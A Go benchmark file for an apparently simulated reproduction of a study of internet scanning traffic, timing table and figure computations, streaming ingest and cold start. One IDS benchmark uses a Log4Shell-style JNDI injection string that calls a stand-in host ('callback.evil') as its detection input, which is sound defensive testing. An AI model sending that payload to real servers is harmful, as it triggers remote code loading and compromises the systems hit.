package cloudwatch

// One benchmark per table and figure of the paper's evaluation. Each
// bench builds (and caches) the study for its dataset year, then
// measures the experiment computation; the rendered tables land in
// bench output via b.Log at -v. Key shape metrics are reported through
// b.ReportMetric so regressions in the reproduced findings are visible
// in benchmark diffs.

import (
	"sync"
	"testing"
	"time"

	"cloudwatch/internal/core"
	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/obs"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/stats"
	"cloudwatch/internal/stream"
)

var (
	benchMu      sync.Mutex
	benchStudies = map[string]*core.Study{}
)

// benchStudy caches one study per (year, figure-scale) variant. The
// cached study carries its derived-record index and view cache, so the
// per-table benchmarks below measure the warm (memoized) read path by
// design — the path repeat analyses take in production — and their
// ns/op depends on which benchmarks ran first. Use
// BenchmarkViewPipelineCold/Warm to isolate cold-build vs cache-hit
// cost.
func benchStudy(b *testing.B, year int, figure bool) *core.Study {
	b.Helper()
	key := "std"
	if figure {
		key = "fig"
	}
	key += string(rune('0' + year - 2019))
	benchMu.Lock()
	defer benchMu.Unlock()
	if s, ok := benchStudies[key]; ok {
		return s
	}
	cfg := QuickStudy(42, year)
	if figure {
		cfg.Deploy.TelescopeSlash24s = 512
	}
	s, err := Run(cfg)
	if err != nil {
		b.Fatal(err)
	}
	benchStudies[key] = s
	return s
}

// BenchmarkStudyGeneration measures end-to-end study construction
// across varying seeds (no stream-state cache reuse between
// iterations), reporting generation throughput like the fixed-seed
// worker benchmarks below.
func BenchmarkStudyGeneration(b *testing.B) {
	records := 0
	for i := 0; i < b.N; i++ {
		s, err := Run(QuickStudy(int64(i), 2021))
		if err != nil {
			b.Fatal(err)
		}
		records = s.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStreamGeneration measures epoch-partitioned generation —
// the streaming counterpart of BenchmarkStudyGeneration, same varying
// seeds, same scenario, but every probe routed into the per-epoch sink
// of its timestamp. The streaming_over_batch_generation ratio in the
// bench report divides this benchmark's records/sec by
// BenchmarkStudyGeneration's: 8-epoch generation against Run, which
// is 1-epoch generation plus its single assembly.
func BenchmarkStreamGeneration(b *testing.B) {
	records := 0
	for i := 0; i < b.N; i++ {
		cfg := QuickStudy(int64(i), 2021)
		cfg.WindowSec = 0
		es, err := core.GenerateEpochs(cfg, sweepBenchEpochs)
		if err != nil {
			b.Fatal(err)
		}
		records = es.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkScenarioGeneration measures end-to-end study construction
// under every registered scenario pack, one sub-benchmark per id, so
// per-scenario generation throughput is tracked in benchmark diffs
// (the baseline sub-benchmark is BenchmarkStudyGeneration's grid under
// another name; the packs price their different population shapes).
func BenchmarkScenarioGeneration(b *testing.B) {
	for _, id := range Scenarios() {
		b.Run(id, func(b *testing.B) {
			records := 0
			for i := 0; i < b.N; i++ {
				cfg := QuickStudy(int64(i), 2021)
				cfg.Actors.Scenario = id
				s, err := Run(cfg)
				if err != nil {
					b.Fatal(err)
				}
				records = s.NumRecords()
			}
			if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
				b.ReportMetric(float64(records)/perOp, "records/sec")
			}
		})
	}
}

// benchmarkStudyWorkers measures the full collection pipeline at a
// fixed worker count, reporting throughput as records/sec so the
// parallel-vs-serial speedup is visible in benchmark diffs.
func benchmarkStudyWorkers(b *testing.B, workers int) {
	cfg := QuickStudy(42, 2021)
	cfg.Workers = workers
	records := 0
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		s, err := Run(cfg)
		if err != nil {
			b.Fatal(err)
		}
		records = s.NumRecords()
	}
	perOp := b.Elapsed().Seconds() / float64(b.N)
	if perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStudySerial is the single-worker baseline of the sharded
// pipeline.
func BenchmarkStudySerial(b *testing.B) { benchmarkStudyWorkers(b, 1) }

// BenchmarkStudyParallel runs the pipeline at the default worker count
// (GOMAXPROCS); compare its records/sec against BenchmarkStudySerial.
func BenchmarkStudyParallel(b *testing.B) { benchmarkStudyWorkers(b, 0) }

func BenchmarkTable1VantagePoints(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table1Result
	for i := 0; i < b.N; i++ {
		r = s.Table1()
	}
	for _, row := range r.Rows {
		if row.Collection == "telescope" {
			b.ReportMetric(float64(row.UniqueIPs), "telescope-ips")
		}
	}
}

func BenchmarkTable2Neighborhoods(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table2Result
	for i := 0; i < b.N; i++ {
		r = s.Table2()
	}
	for _, c := range r.Cells {
		if c.Slice == core.SliceSSH22 && c.Characteristic == core.CharTopAS {
			b.ReportMetric(c.FractionDifferent*100, "ssh-as-diff-pct")
		}
	}
}

func BenchmarkTable3SearchEngines(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table3Result
	for i := 0; i < b.N; i++ {
		r = s.Table3()
	}
	for _, row := range r.Rows {
		if row.Service == "HTTP/80" && row.Traffic == "All" && row.Group == "shodan" {
			b.ReportMetric(row.Fold, "http80-shodan-fold")
		}
	}
}

func BenchmarkTable4GeoMostDifferent(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table4()
	}
}

func BenchmarkTable5GeoSimilarity(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table5()
	}
}

func BenchmarkTable6DeploymentMatrix(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table6()
	}
}

func BenchmarkTable7NetworkTypes(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table7()
	}
}

func BenchmarkTable8TelescopeOverlap(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table8Result
	for i := 0; i < b.N; i++ {
		r = s.Table8()
	}
	for _, row := range r.Rows {
		switch row.Port {
		case 22:
			b.ReportMetric(row.TelCloudFrac*100, "p22-overlap-pct")
		case 23:
			b.ReportMetric(row.TelCloudFrac*100, "p23-overlap-pct")
		}
	}
}

func BenchmarkTable9MaliciousOverlap(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table9()
	}
}

func BenchmarkTable10TelescopeASes(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table10()
	}
}

func BenchmarkTable11UnexpectedProtocols(b *testing.B) {
	s := benchStudy(b, 2021, false)
	b.ResetTimer()
	var r core.Table11Result
	for i := 0; i < b.N; i++ {
		r = s.Table11()
	}
	for _, row := range r.Rows {
		if row.Port == 80 && !row.Expected {
			b.ReportMetric(row.Share*100, "unexpected-pct")
		}
	}
}

func benchFigurePanel(b *testing.B, port uint16, metric string, get func(core.Figure1Panel) float64) {
	s := benchStudy(b, 2021, true)
	b.ResetTimer()
	var r core.Figure1Result
	for i := 0; i < b.N; i++ {
		r = s.Figure1()
	}
	for _, p := range r.Panels {
		if p.Port == port {
			b.ReportMetric(get(p), metric)
		}
	}
}

func BenchmarkFigure1aPort22(b *testing.B) {
	benchFigurePanel(b, 22, "slash16-boost", func(p core.Figure1Panel) float64 { return p.Slash16StartBoost })
}

func BenchmarkFigure1bPort445(b *testing.B) {
	benchFigurePanel(b, 445, "octet255-ratio", func(p core.Figure1Panel) float64 { return p.Octet255Ratio })
}

func BenchmarkFigure1cPort80(b *testing.B) {
	benchFigurePanel(b, 80, "octet255-ratio", func(p core.Figure1Panel) float64 { return p.Octet255Ratio })
}

func BenchmarkFigure1dPort17128(b *testing.B) {
	benchFigurePanel(b, 17128, "latched-addrs", func(p core.Figure1Panel) float64 { return float64(len(p.TopAddresses)) })
}

// Appendix C (temporal validation): the same experiments on the 2020
// and 2022 datasets.

func BenchmarkTable12Neighborhoods2020(b *testing.B) {
	s := benchStudy(b, 2020, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table2()
	}
}

func BenchmarkTable13GeoSimilarity2020(b *testing.B) {
	s := benchStudy(b, 2020, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table5()
	}
}

func BenchmarkTable14NetworkTypes2022(b *testing.B) {
	s := benchStudy(b, 2022, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table7()
	}
}

func BenchmarkTable15Telescope2022(b *testing.B) {
	s := benchStudy(b, 2022, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table10()
	}
}

func BenchmarkTable16Geo2020(b *testing.B) {
	s := benchStudy(b, 2020, false)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table4()
	}
}

func BenchmarkTable17Protocols2022(b *testing.B) {
	s := benchStudy(b, 2022, false)
	b.ResetTimer()
	var r core.Table11Result
	for i := 0; i < b.N; i++ {
		r = s.Table11()
	}
	for _, row := range r.Rows {
		if row.Port == 80 && !row.Expected {
			b.ReportMetric(row.Share*100, "unexpected-pct-2022")
		}
	}
}

// BenchmarkViewPipelineCold measures the full analysis read path with
// nothing memoized: every iteration runs a fresh study's Table2 (the
// heaviest per-vantage view consumer), paying the derived-index build
// plus all view construction.
func BenchmarkViewPipelineCold(b *testing.B) {
	cfg := QuickStudy(42, 2021)
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		s, err := Run(cfg)
		if err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
		_ = s.Table2()
	}
}

// BenchmarkViewPipelineWarm is the memoized counterpart: the same
// Table2 on one study, so iterations 2+ read the derived index and the
// view cache. Compare against BenchmarkViewPipelineCold for the cache
// win.
func BenchmarkViewPipelineWarm(b *testing.B) {
	s := benchStudy(b, 2021, false)
	_ = s.Table2() // prime the index and view cache
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = s.Table2()
	}
}

// Streaming-engine benchmarks: ingest throughput and the K/prefix
// sweep engine against cold re-runs.

// sweepBenchEpochs matches the acceptance grid: Table 2 and Table 5
// across K = 1..10 on every prefix of an 8-epoch week.
const sweepBenchEpochs = 8

var sweepBenchTables = []string{"table2", "table5"}

var (
	sweepEngOnce sync.Once
	sweepEng     *StreamEngine
	sweepEngErr  error
)

// sweepEngine builds (once) the fully-ingested streaming engine the
// warm-sweep benchmark reads.
func sweepEngine(b *testing.B) *StreamEngine {
	b.Helper()
	sweepEngOnce.Do(func() {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(42, 2021), Epochs: sweepBenchEpochs})
		if err == nil {
			err = eng.IngestAll()
		}
		sweepEng, sweepEngErr = eng, err
	})
	if sweepEngErr != nil {
		b.Fatal(sweepEngErr)
	}
	return sweepEng
}

// BenchmarkStreamIngest measures end-to-end streaming ingestion:
// epoch-partitioned generation plus the materialization of every
// prefix snapshot, reported as records/sec of the final study (compare
// against BenchmarkStudyParallel for the streaming overhead).
func BenchmarkStreamIngest(b *testing.B) {
	records := 0
	for i := 0; i < b.N; i++ {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(int64(i), 2021), Epochs: sweepBenchEpochs})
		if err != nil {
			b.Fatal(err)
		}
		if err := eng.IngestAll(); err != nil {
			b.Fatal(err)
		}
		snap, err := eng.Snapshot(sweepBenchEpochs)
		if err != nil {
			b.Fatal(err)
		}
		records = snap.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStreamIngestBare is BenchmarkStreamIngest with stage
// tracing disabled — the only per-stage instrumentation cost spans pay
// (metrics are single atomic ops on per-epoch paths and are never
// gated). The instrumented-over-bare records/sec ratio in the bench
// report prices the observability layer; the acceptance bar is ≥ 0.98
// (≤ 2% overhead).
func BenchmarkStreamIngestBare(b *testing.B) {
	obs.SetEnabled(false)
	defer obs.SetEnabled(true)
	records := 0
	for i := 0; i < b.N; i++ {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(int64(i), 2021), Epochs: sweepBenchEpochs})
		if err != nil {
			b.Fatal(err)
		}
		if err := eng.IngestAll(); err != nil {
			b.Fatal(err)
		}
		snap, err := eng.Snapshot(sweepBenchEpochs)
		if err != nil {
			b.Fatal(err)
		}
		records = snap.NumRecords()
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(records)/perOp, "records/sec")
	}
}

// BenchmarkStreamIngestLatency measures per-epoch ingest latency at
// the start and the end of the week. Snapshot assembly is incremental
// (each ingest adopts the previous prefix snapshot and folds in only
// the new epoch), so ingesting epoch 8 should cost about the same as
// ingesting epoch 2 — the p8-over-p2 ratio near 1.0 is the flatness
// acceptance metric; the O(prefix) from-scratch assembler sat near 3.
func BenchmarkStreamIngestLatency(b *testing.B) {
	var p2, p8 time.Duration
	for i := 0; i < b.N; i++ {
		eng, err := NewStream(StreamConfig{Study: QuickStudy(int64(i), 2021), Epochs: sweepBenchEpochs})
		if err != nil {
			b.Fatal(err)
		}
		for p := 1; p <= sweepBenchEpochs; p++ {
			start := time.Now()
			if _, ok, err := eng.IngestNext(); err != nil || !ok {
				b.Fatalf("ingest #%d: ok=%v err=%v", p, ok, err)
			}
			d := time.Since(start)
			switch p {
			case 2:
				p2 += d
			case sweepBenchEpochs:
				p8 += d
			}
		}
	}
	n := float64(b.N)
	b.ReportMetric(p2.Seconds()*1e3/n, "p2-ms")
	b.ReportMetric(p8.Seconds()*1e3/n, "p8-ms")
	if p2 > 0 {
		b.ReportMetric(p8.Seconds()/p2.Seconds(), "p8-over-p2")
	}
}

// BenchmarkSweepWarm measures the sweep engine on a fully-ingested
// week: Table 2 and Table 5 at K = 1..10 across all 8 epoch prefixes
// (160 renders per iteration), with the interned BatchSet summaries
// and finished families reused across sweep points. Compare
// renders/sec against BenchmarkSweepCold for the acceptance ratio.
func BenchmarkSweepWarm(b *testing.B) {
	eng := sweepEngine(b)
	req := stream.SweepRequest{Tables: sweepBenchTables, KMin: 1, KMax: 10}
	b.ResetTimer()
	renders := 0
	for i := 0; i < b.N; i++ {
		res, err := eng.Sweep(req)
		if err != nil {
			b.Fatal(err)
		}
		renders = res.Renders
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(float64(renders)/perOp, "renders/sec")
	}
}

// BenchmarkSweepCold prices the same grid without the streaming
// engine: each iteration renders one (prefix, K, table) point from a
// fresh truncated batch run — what sweeping cost before snapshots.
func BenchmarkSweepCold(b *testing.B) {
	eb := netsim.NewEpochs(sweepBenchEpochs)
	cfg := QuickStudy(42, 2021)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		point := i % (sweepBenchEpochs * 10 * len(sweepBenchTables))
		tbl := sweepBenchTables[point%len(sweepBenchTables)]
		k := (point / len(sweepBenchTables) % 10) + 1
		prefix := point/(10*len(sweepBenchTables)) + 1
		c := cfg
		if prefix < sweepBenchEpochs {
			c.WindowSec = eb.Bound(prefix)
		}
		s, err := Run(c)
		if err != nil {
			b.Fatal(err)
		}
		if _, ok := core.RenderExperimentAtK(s, tbl, k); !ok {
			b.Fatalf("unknown sweep table %q", tbl)
		}
	}
	if perOp := b.Elapsed().Seconds() / float64(b.N); perOp > 0 {
		b.ReportMetric(1/perOp, "renders/sec")
	}
}

// Cold-start benchmarks: wall time from process start (engine open) to
// the first rendered table, with and without a warm durable store. The
// recovered path decodes persisted epoch blocks instead of running the
// generators, so cold-start-ms should drop well below the regenerate
// path — the PR 7 acceptance metric.

func benchColdStart(b *testing.B, warm bool) {
	cfg := StreamConfig{Study: QuickStudy(42, 2021), Epochs: sweepBenchEpochs}
	for i := 0; i < b.N; i++ {
		b.StopTimer()
		dir := b.TempDir()
		if warm {
			eng, err := OpenStream(cfg, dir)
			if err != nil {
				b.Fatal(err)
			}
			if err := eng.Close(); err != nil {
				b.Fatal(err)
			}
		}
		b.StartTimer()
		eng, err := OpenStream(cfg, dir)
		if err != nil {
			b.Fatal(err)
		}
		if warm != eng.Recovered() {
			b.Fatalf("recovered=%v, want %v", eng.Recovered(), warm)
		}
		if _, _, err := eng.IngestNext(); err != nil {
			b.Fatal(err)
		}
		snap, err := eng.Snapshot(1)
		if err != nil {
			b.Fatal(err)
		}
		if out, ok := core.RenderExperiment(snap, "table2"); !ok || out == "" {
			b.Fatal("first render produced no output")
		}
		b.StopTimer()
		if err := eng.Close(); err != nil {
			b.Fatal(err)
		}
		b.StartTimer()
	}
	b.ReportMetric(b.Elapsed().Seconds()*1e3/float64(b.N), "cold-start-ms")
}

// BenchmarkColdStartRecovered opens a warm store: epoch blocks decode
// from disk, generation is skipped.
func BenchmarkColdStartRecovered(b *testing.B) { benchColdStart(b, true) }

// BenchmarkColdStartRegenerate opens an empty store: the study is
// generated from the seed and persisted before the first render.
func BenchmarkColdStartRegenerate(b *testing.B) { benchColdStart(b, false) }

// Micro-benchmarks of the hot paths.

func BenchmarkFingerprintIdentify(b *testing.B) {
	payloads := [][]byte{
		fingerprint.Probe(fingerprint.HTTP),
		fingerprint.Probe(fingerprint.TLS),
		fingerprint.Probe(fingerprint.SSH),
		fingerprint.Probe(fingerprint.SMB),
		[]byte("garbage that matches nothing at all"),
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		fingerprint.Identify(payloads[i%len(payloads)])
	}
}

func BenchmarkIDSMatch(b *testing.B) {
	e := ids.DefaultEngine()
	payload := []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\n\r\n")
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Match("tcp", 80, payload)
	}
}

func BenchmarkChiSquareTopK(b *testing.B) {
	x := stats.Freq{"a": 120, "b": 80, "c": 40, "d": 10}
	y := stats.Freq{"a": 90, "b": 95, "e": 55, "f": 12}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := stats.CompareTopK(3, x, y); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkPopulationBuild(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_ = scanners.Population(scanners.Config{Seed: int64(i), Year: 2021, Scale: 0.35})
	}
}
